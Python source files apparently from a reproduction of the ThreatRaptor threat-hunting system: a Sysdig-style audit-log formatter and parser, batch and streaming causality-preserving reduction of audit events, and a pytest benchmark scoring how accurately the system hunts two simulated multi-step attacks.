from repro.auditing.trace import AuditTrace
from repro.errors import AuditLogError

_FIELD_SEPARATOR = "\t"


def _escape(value: object) -> str:
    """Escape a field value so tabs/newlines cannot break the record format."""
    text = str(value)
    return text.replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n")


def _unescape(value: str) -> str:
    out: list[str] = []
    i = 0
    while i < len(value):
        ch = value[i]
        if ch == "\\" and i + 1 < len(value):
            nxt = value[i + 1]
            if nxt == "t":
                out.append("\t")
            elif nxt == "n":
                out.append("\n")
            else:
                out.append(nxt)
            i += 2
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def format_record(
    event: SystemEvent, subject: SystemEntity, obj: SystemEntity
) -> str:
    """Format one audit event as a Sysdig-style log line."""
    if not isinstance(subject, ProcessEntity):
        raise AuditLogError(
            f"event {event.event_id}: subject {subject.entity_id} is not a process"
        )
    fields: list[tuple[str, object]] = [
        ("evt.num", event.event_id),
        ("evt.time", event.start_time),
        ("evt.endtime", event.end_time),
        ("evt.type", event.operation.value),
        ("proc.name", subject.exename),
        ("proc.pid", subject.pid),
        ("proc.cmdline", subject.cmdline),
        ("user.name", subject.owner),
    ]
    if event.object_type is EntityType.FILE:
        fields.append(("fd.name", obj.attribute("name")))
    elif event.object_type is EntityType.PROCESS:
        fields.extend(
            [
                ("child.name", obj.attribute("exename")),
                ("child.pid", obj.attribute("pid")),
                ("child.cmdline", obj.attribute("cmdline")),
            ]
        )
    else:
        fields.extend(
            [
                ("fd.sip", obj.attribute("srcip")),
                ("fd.sport", obj.attribute("srcport")),
                ("fd.cip", obj.attribute("dstip")),
                ("fd.cport", obj.attribute("dstport")),
                ("fd.l4proto", obj.attribute("protocol")),
            ]
        )
    fields.append(("evt.buflen", event.amount))
    fields.append(("host", event.host))
    return _FIELD_SEPARATOR.join(f"{key}={_escape(value)}" for key, value in fields)


def write_trace(trace: AuditTrace, stream: TextIO) -> int:
    """Write a full trace to ``stream`` in Sysdig format.

    Returns:
        The number of records written.
    """
    count = 0
    entity_by_id = {entity.entity_id: entity for entity in trace.entities}
    for event in trace.events:
        subject = entity_by_id[event.subject_id]
        obj = entity_by_id[event.object_id]
        stream.write(format_record(event, subject, obj))
        stream.write("\n")
        count += 1
    return count


def parse_record(line: str) -> dict[str, str]:
    """Parse one Sysdig-style log line into a field dict.

    Raises:
        AuditLogError: if the line is empty or a field lacks ``key=value`` form.
    """
    stripped = line.rstrip("\n")
    if not stripped.strip():
        raise AuditLogError("empty audit record")
    fields: dict[str, str] = {}
    for raw in stripped.split(_FIELD_SEPARATOR):
        if "=" not in raw:
            raise AuditLogError(f"malformed field {raw!r} in record {stripped!r}")
        key, _, value = raw.partition("=")
        fields[key] = _unescape(value)
    return fields


def iter_records(stream: TextIO | Iterable[str]) -> Iterator[dict[str, str]]:
    """Yield parsed field dicts for every non-blank line in ``stream``.

    Lines that cannot be parsed raise :class:`AuditLogError`; callers that want
    to skip corrupt lines should catch it per record via
    :func:`iter_records_lenient`.
    """
    for line in stream:
        if not line.strip():
            continue
        yield parse_record(line)


def iter_records_lenient(
    stream: TextIO | Iterable[str],
) -> Iterator[tuple[dict[str, str] | None, str | None]]:
    """Like :func:`iter_records` but yields ``(record, error)`` pairs.

    Exactly one element of the pair is ``None``.  This mirrors how a production
    collector tolerates occasional corrupt lines without dropping the stream.
    """
    for line in stream:
        if not line.strip():
            continue
        try:
            yield parse_record(line), None
        except AuditLogError as exc:
            yield None, str(exc)


__all__ = [
    "format_record",
    "write_trace",
    "parse_record",
    "iter_records",
    "iter_records_lenient",
]
