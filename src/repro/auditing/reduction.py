"""Causality Preserved Reduction (CPR) of audit events.

System auditing produces an enormous number of repeated events between the
same pair of entities (e.g., a process issuing thousands of ``write`` calls to
the same log file).  ThreatRaptor adopts the Causality Preserved Reduction
technique (Xu et al., CCS 2016) to merge such excessive events while keeping
the causal (information-flow) semantics of the trace intact.

The rule implemented here follows the published technique: two events over the
same ⟨subject, object, operation⟩ edge may be merged iff no *interleaving*
event on either endpoint could change the forward/backward trackability of the
endpoints — concretely, we merge consecutive same-edge events when neither the
subject nor the object participated in another event (as source of outgoing
flow or sink of incoming flow) between them, or when the gap between them is
within a configurable merge window and no other edge touched either endpoint
inside that gap.
"""

from __future__ import annotations

from bisect import bisect_right
from collections import defaultdict
from dataclasses import dataclass

from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace


@dataclass(frozen=True)
class ReductionStats:
    """Outcome of one CPR pass."""

    events_before: int
    events_after: int

    @property
    def reduction_factor(self) -> float:
        """How many times smaller the reduced trace is (>= 1.0)."""
        if self.events_after == 0:
            return 1.0
        return self.events_before / self.events_after

    @property
    def events_removed(self) -> int:
        return self.events_before - self.events_after


class CausalityPreservedReducer:
    """Merges excessive events between the same pair of entities.

    Args:
        merge_window_ns: Maximum time gap (in nanoseconds) between two
            same-edge events for them to be merge candidates.  The default of
            10 seconds matches the aggregation windows used in the CPR paper's
            evaluation; a window of ``None`` merges regardless of gap as long
            as causality is preserved.
    """

    def __init__(self, merge_window_ns: int | None = 10_000_000_000) -> None:
        self._merge_window_ns = merge_window_ns

    def reduce(self, trace: AuditTrace) -> tuple[AuditTrace, ReductionStats]:
        """Return a reduced copy of ``trace`` plus reduction statistics.

        The malicious-event labels are carried over: a merged event is labelled
        malicious if any of its constituents was.
        """
        ordered = sorted(trace.events, key=lambda e: (e.start_time, e.event_id))
        before = len(ordered)

        # For causality preservation we need, per entity, the ordered list of
        # event indices that touch it.  An event between (s, o) may be merged
        # into its predecessor on the same edge only if no *other* event
        # touched s or o in between (that interleaving event could create a
        # new information-flow path whose ordering the merge would destroy).
        touches: dict[int, list[int]] = defaultdict(list)
        for index, event in enumerate(ordered):
            touches[event.subject_id].append(index)
            touches[event.object_id].append(index)

        last_on_edge: dict[tuple[int, int, str], int] = {}
        merged_into: dict[int, int] = {}
        reduced_events: list[SystemEvent] = []
        reduced_malicious: set[int] = set()
        # Map original index -> position in reduced_events so merges can update
        # the already-emitted merged event in place.
        emitted_position: dict[int, int] = {}

        for index, event in enumerate(ordered):
            edge = (event.subject_id, event.object_id, event.operation.value)
            prev_index = last_on_edge.get(edge)
            mergeable = False
            if prev_index is not None:
                prev_event = ordered[prev_index]
                gap = event.start_time - prev_event.end_time
                within_window = (
                    self._merge_window_ns is None or gap <= self._merge_window_ns
                )
                if within_window and not self._interleaved(
                    touches, prev_index, index, event.subject_id, event.object_id
                ):
                    mergeable = True

            if mergeable and prev_index is not None:
                # Merge into the representative event already emitted for the
                # predecessor (which may itself be a merge of earlier events).
                representative_index = merged_into.get(prev_index, prev_index)
                position = emitted_position[representative_index]
                reduced_events[position] = reduced_events[position].merged_with(event)
                merged_into[index] = representative_index
                if (
                    event.event_id in trace.malicious_event_ids
                    or reduced_events[position].event_id in trace.malicious_event_ids
                ):
                    reduced_malicious.add(reduced_events[position].event_id)
            else:
                emitted_position[index] = len(reduced_events)
                reduced_events.append(event)
                if event.event_id in trace.malicious_event_ids:
                    reduced_malicious.add(event.event_id)
            last_on_edge[edge] = index

        reduced = AuditTrace(
            host=trace.host,
            entities=list(trace.entities),
            events=reduced_events,
            malicious_event_ids=reduced_malicious,
        )
        return reduced, ReductionStats(events_before=before, events_after=len(reduced_events))

    # -- internal ----------------------------------------------------------

    @staticmethod
    def _interleaved(
        touches: dict[int, list[int]],
        prev_index: int,
        index: int,
        subject_id: int,
        object_id: int,
    ) -> bool:
        """True if any other event touched either endpoint strictly between
        ``prev_index`` and ``index`` in the time-ordered stream.

        The per-entity index lists are built in ascending order, so a binary
        search finds the first index greater than ``prev_index`` in O(log n).
        """
        for entity_id in (subject_id, object_id):
            indices = touches[entity_id]
            position = bisect_right(indices, prev_index)
            if position < len(indices) and indices[position] < index:
                return True
        return False


def reduce_trace(
    trace: AuditTrace, merge_window_ns: int | None = 10_000_000_000
) -> tuple[AuditTrace, ReductionStats]:
    """Module-level convenience wrapper around :class:`CausalityPreservedReducer`."""
    return CausalityPreservedReducer(merge_window_ns=merge_window_ns).reduce(trace)
