"""Causality Preserved Reduction (CPR) of audit events.

System auditing produces an enormous number of repeated events between the
same pair of entities (e.g., a process issuing thousands of ``write`` calls to
the same log file).  ThreatRaptor adopts the Causality Preserved Reduction
technique (Xu et al., CCS 2016) to merge such excessive events while keeping
the causal (information-flow) semantics of the trace intact.

The rule implemented here follows the published technique: two events over the
same ⟨subject, object, operation⟩ edge may be merged iff no *interleaving*
event on either endpoint could change the forward/backward trackability of the
endpoints — concretely, we merge consecutive same-edge events when neither the
subject nor the object participated in another event (as source of outgoing
flow or sink of incoming flow) between them, or when the gap between them is
within a configurable merge window and no other edge touched either endpoint
inside that gap.
"""

from __future__ import annotations

from bisect import bisect_right
from collections import defaultdict
from dataclasses import dataclass
from typing import Iterable

from repro.auditing.events import SystemEvent
from repro.auditing.trace import AuditTrace


@dataclass(frozen=True)
class ReductionStats:
    """Outcome of one CPR pass."""

    events_before: int
    events_after: int

    @property
    def reduction_factor(self) -> float:
        """How many times smaller the reduced trace is (>= 1.0)."""
        if self.events_after == 0:
            return 1.0
        return self.events_before / self.events_after

    @property
    def events_removed(self) -> int:
        return self.events_before - self.events_after


class CausalityPreservedReducer:
    """Merges excessive events between the same pair of entities.

    Args:
        merge_window_ns: Maximum time gap (in nanoseconds) between two
            same-edge events for them to be merge candidates.  The default of
            10 seconds matches the aggregation windows used in the CPR paper's
            evaluation; a window of ``None`` merges regardless of gap as long
            as causality is preserved.
    """

    def __init__(self, merge_window_ns: int | None = 10_000_000_000) -> None:
        self._merge_window_ns = merge_window_ns

    def reduce(self, trace: AuditTrace) -> tuple[AuditTrace, ReductionStats]:
        """Return a reduced copy of ``trace`` plus reduction statistics.

        The malicious-event labels are carried over: a merged event is labelled
        malicious if any of its constituents was.
        """
        ordered = sorted(trace.events, key=lambda e: (e.start_time, e.event_id))
        before = len(ordered)

        # For causality preservation we need, per entity, the ordered list of
        # event indices that touch it.  An event between (s, o) may be merged
        # into its predecessor on the same edge only if no *other* event
        # touched s or o in between (that interleaving event could create a
        # new information-flow path whose ordering the merge would destroy).
        touches: dict[int, list[int]] = defaultdict(list)
        for index, event in enumerate(ordered):
            touches[event.subject_id].append(index)
            touches[event.object_id].append(index)

        last_on_edge: dict[tuple[int, int, str], int] = {}
        merged_into: dict[int, int] = {}
        reduced_events: list[SystemEvent] = []
        reduced_malicious: set[int] = set()
        # Map original index -> position in reduced_events so merges can update
        # the already-emitted merged event in place.
        emitted_position: dict[int, int] = {}

        for index, event in enumerate(ordered):
            edge = (event.subject_id, event.object_id, event.operation.value)
            prev_index = last_on_edge.get(edge)
            mergeable = False
            if prev_index is not None:
                prev_event = ordered[prev_index]
                gap = event.start_time - prev_event.end_time
                within_window = (
                    self._merge_window_ns is None or gap <= self._merge_window_ns
                )
                if within_window and not self._interleaved(
                    touches, prev_index, index, event.subject_id, event.object_id
                ):
                    mergeable = True

            if mergeable and prev_index is not None:
                # Merge into the representative event already emitted for the
                # predecessor (which may itself be a merge of earlier events).
                representative_index = merged_into.get(prev_index, prev_index)
                position = emitted_position[representative_index]
                reduced_events[position] = reduced_events[position].merged_with(event)
                merged_into[index] = representative_index
                if (
                    event.event_id in trace.malicious_event_ids
                    or reduced_events[position].event_id in trace.malicious_event_ids
                ):
                    reduced_malicious.add(reduced_events[position].event_id)
            else:
                emitted_position[index] = len(reduced_events)
                reduced_events.append(event)
                if event.event_id in trace.malicious_event_ids:
                    reduced_malicious.add(event.event_id)
            last_on_edge[edge] = index

        reduced = AuditTrace(
            host=trace.host,
            entities=list(trace.entities),
            events=reduced_events,
            malicious_event_ids=reduced_malicious,
        )
        return reduced, ReductionStats(events_before=before, events_after=len(reduced_events))

    def incremental(self) -> "IncrementalReducer":
        """A stateful reducer for streamed event batches.

        The returned :class:`IncrementalReducer` applies the same merge rule as
        :meth:`reduce` but carries its merge-window state across batches, so
        reducing a time-ordered stream batch by batch produces the same event
        set as one whole-trace reduction.
        """
        return IncrementalReducer(merge_window_ns=self._merge_window_ns)

    # -- internal ----------------------------------------------------------

    @staticmethod
    def _interleaved(
        touches: dict[int, list[int]],
        prev_index: int,
        index: int,
        subject_id: int,
        object_id: int,
    ) -> bool:
        """True if any other event touched either endpoint strictly between
        ``prev_index`` and ``index`` in the time-ordered stream.

        The per-entity index lists are built in ascending order, so a binary
        search finds the first index greater than ``prev_index`` in O(log n).
        """
        for entity_id in (subject_id, object_id):
            indices = touches[entity_id]
            position = bisect_right(indices, prev_index)
            if position < len(indices) and indices[position] < index:
                return True
        return False


@dataclass
class ReducedEvent:
    """One reduced event emitted by the incremental reducer."""

    event: SystemEvent
    malicious: bool = False


@dataclass
class _PendingEdge:
    """The still-merge-open representative of the last event on one edge.

    ``last_end`` is the end time of the last *original* constituent, matching
    how the batch reducer computes merge gaps against the unmerged predecessor
    rather than the (time-extended) merged representative.
    """

    representative: SystemEvent
    last_end: int
    malicious: bool = False


class IncrementalReducer:
    """Causality Preserved Reduction over a time-ordered event stream.

    The batch reducer decides whether to merge an event into its same-edge
    predecessor by looking *backwards* for interleaving events.  Streaming, the
    same rule is enforced *forwards*: the representative of the last event on
    each edge stays *pending* (not yet emitted) until it can no longer legally
    absorb a merge — i.e. until another edge touches one of its endpoints, a
    same-edge event arrives outside the merge window, or the stream's watermark
    moves past the window.  Only then is it sealed and emitted.

    Feeding the reducer a time-ordered stream batch by batch and concatenating
    the emitted events (plus a final :meth:`flush`) yields exactly the event
    set :meth:`CausalityPreservedReducer.reduce` produces for the whole trace.

    Args:
        merge_window_ns: Same semantics as :class:`CausalityPreservedReducer`.
    """

    def __init__(self, merge_window_ns: int | None = 10_000_000_000) -> None:
        self._merge_window_ns = merge_window_ns
        self._pending: dict[tuple[int, int, str], _PendingEdge] = {}
        self._pending_by_entity: dict[int, set[tuple[int, int, str]]] = defaultdict(set)
        self._watermark_ns: int | None = None
        self.events_seen = 0
        self.events_emitted = 0

    @property
    def pending_count(self) -> int:
        """Events currently buffered awaiting a merge decision."""
        return len(self._pending)

    @property
    def watermark_ns(self) -> int | None:
        """Largest event start time observed so far (``None`` before any)."""
        return self._watermark_ns

    def ingest(
        self, events: Iterable[SystemEvent], malicious_event_ids: Iterable[int] = ()
    ) -> list[ReducedEvent]:
        """Feed one micro-batch of events; returns the events sealed by it.

        Events are processed in ``(start_time, event_id)`` order within the
        batch; across batches the stream is expected to arrive time-ordered
        (batch-path equivalence only holds for in-order streams).
        """
        malicious = set(malicious_event_ids)
        sealed: list[ReducedEvent] = []
        for event in sorted(events, key=lambda e: (e.start_time, e.event_id)):
            self.events_seen += 1
            edge = (event.subject_id, event.object_id, event.operation.value)

            # Any pending event on a *different* edge touching either endpoint
            # can no longer absorb merges: this event interleaves it.
            for entity_id in (event.subject_id, event.object_id):
                for other_edge in list(self._pending_by_entity.get(entity_id, ())):
                    if other_edge != edge:
                        sealed.append(self._seal(other_edge))

            pending = self._pending.get(edge)
            if pending is not None:
                gap = event.start_time - pending.last_end
                if self._merge_window_ns is None or gap <= self._merge_window_ns:
                    pending.representative = pending.representative.merged_with(event)
                    pending.last_end = event.end_time
                    pending.malicious = pending.malicious or event.event_id in malicious
                    self._advance_watermark(event.start_time)
                    continue
                sealed.append(self._seal(edge))

            self._pending[edge] = _PendingEdge(
                representative=event,
                last_end=event.end_time,
                malicious=event.event_id in malicious,
            )
            self._pending_by_entity[event.subject_id].add(edge)
            self._pending_by_entity[event.object_id].add(edge)
            self._advance_watermark(event.start_time)

        sealed.extend(self._seal_expired())
        return sealed

    def flush(self) -> list[ReducedEvent]:
        """Seal and emit every pending event (end of stream / on demand)."""
        return [self._seal(edge) for edge in list(self._pending)]

    def statistics(self) -> ReductionStats:
        """Reduction counters over everything ingested so far.

        Pending (not yet sealed) events count as one future emission each.
        """
        return ReductionStats(
            events_before=self.events_seen,
            events_after=self.events_emitted + self.pending_count,
        )

    # -- internal ----------------------------------------------------------

    def _advance_watermark(self, start_time: int) -> None:
        if self._watermark_ns is None or start_time > self._watermark_ns:
            self._watermark_ns = start_time

    def _seal(self, edge: tuple[int, int, str]) -> ReducedEvent:
        pending = self._pending.pop(edge)
        for entity_id in (edge[0], edge[1]):
            edges = self._pending_by_entity.get(entity_id)
            if edges is not None:
                edges.discard(edge)
                if not edges:
                    del self._pending_by_entity[entity_id]
        self.events_emitted += 1
        return ReducedEvent(event=pending.representative, malicious=pending.malicious)

    def _seal_expired(self) -> list[ReducedEvent]:
        """Seal pending events no future in-order event could merge with.

        Any future event starts at or after the watermark, so a pending edge
        whose last constituent ended more than a merge window before the
        watermark can never be a merge target again.
        """
        if self._merge_window_ns is None or self._watermark_ns is None:
            return []
        horizon = self._watermark_ns - self._merge_window_ns
        expired = [
            edge for edge, pending in self._pending.items() if pending.last_end < horizon
        ]
        return [self._seal(edge) for edge in expired]


def reduce_trace(
    trace: AuditTrace, merge_window_ns: int | None = 10_000_000_000
) -> tuple[AuditTrace, ReductionStats]:
    """Module-level convenience wrapper around :class:`CausalityPreservedReducer`."""
    return CausalityPreservedReducer(merge_window_ns=merge_window_ns).reduce(trace)
