"""EXP-E2E-ATTACKS — end-to-end hunting accuracy on the two demo attacks.

Section III of the paper demonstrates ThreatRaptor on two multi-step attacks
performed while the server "continues to resume its routine tasks".  This
experiment reproduces that setting at two benign-noise scales and reports the
hunting precision/recall of the matched audit records against the injected
attack ground truth, plus the end-to-end hunting latency.

Expected shape: precision stays at 1.0 (the multi-step query does not match
benign look-alikes such as the nightly tar→gpg→curl backup), recall covers the
steps the report text describes, and latency grows roughly linearly with the
audit data size.
"""

from __future__ import annotations

import pytest

from repro.core.pipeline import ThreatRaptor
from repro.data import report_by_name
from repro.evaluation import score_hunting

_ATTACKS = ("password-cracking", "data-leakage")


@pytest.mark.parametrize("attack_name", _ATTACKS)
@pytest.mark.parametrize("dataset", ["small", "large"])
def test_bench_hunt_attack(benchmark, attack_name, dataset, small_simulation, large_simulation):
    simulation = small_simulation if dataset == "small" else large_simulation
    raptor = ThreatRaptor()
    raptor.load_trace(simulation.trace)
    report_text = report_by_name(attack_name).text

    hunt = benchmark(raptor.hunt, report_text)

    truth = simulation.ground_truth(attack_name)
    matched = hunt.result.all_matched_event_ids()
    score = score_hunting(matched, truth.event_ids)
    benign_false_positives = len(matched - truth.event_ids)

    print(
        f"\n[EXP-E2E-ATTACKS] {attack_name} on {dataset} "
        f"({len(simulation.trace.events)} events): "
        f"precision={score.precision:.2f} recall={score.recall:.2f} "
        f"false positives={benign_false_positives}"
    )
    assert matched, "hunt returned no audit records"
    assert score.precision == 1.0
    assert benign_false_positives == 0
    benchmark.extra_info["attack"] = attack_name
    benchmark.extra_info["dataset_events"] = len(simulation.trace.events)
    benchmark.extra_info["hunting"] = score.as_dict()


@pytest.mark.parametrize("attack_name", _ATTACKS)
def test_hunting_recall_covers_described_steps(attack_name, small_simulation):
    """Recall against only the steps the OSCTI description actually mentions.

    The injected scenarios contain more events than the report prose describes
    (e.g. every scanned file); a fair recall denominator is the set of steps
    whose subject and object appear in the report's relation ground truth.
    """
    report = report_by_name(attack_name)
    raptor = ThreatRaptor()
    raptor.load_trace(small_simulation.trace)
    hunt = raptor.hunt(report.text)
    truth = small_simulation.ground_truth(attack_name)

    described_objects = {obj for _, _, obj in report.relation_ground_truth}
    described_subjects = {subj for subj, _, _ in report.relation_ground_truth}
    described_event_ids = {
        step.event_id
        for step in truth.steps
        if step.object_identifier in described_objects and step.subject_exe in described_subjects
    }
    matched = hunt.result.all_matched_event_ids()
    covered = len(matched & described_event_ids)
    print(
        f"\n[EXP-E2E-ATTACKS] {attack_name}: described steps covered "
        f"{covered}/{len(described_event_ids)}"
    )
    assert described_event_ids
    # The denominator still contains a few low-level steps the prose implies
    # but never states as a relation (the recv paired with each connect, the
    # self-execute of the dropped binary), so full coverage is not expected.
    assert covered / len(described_event_ids) >= 0.6
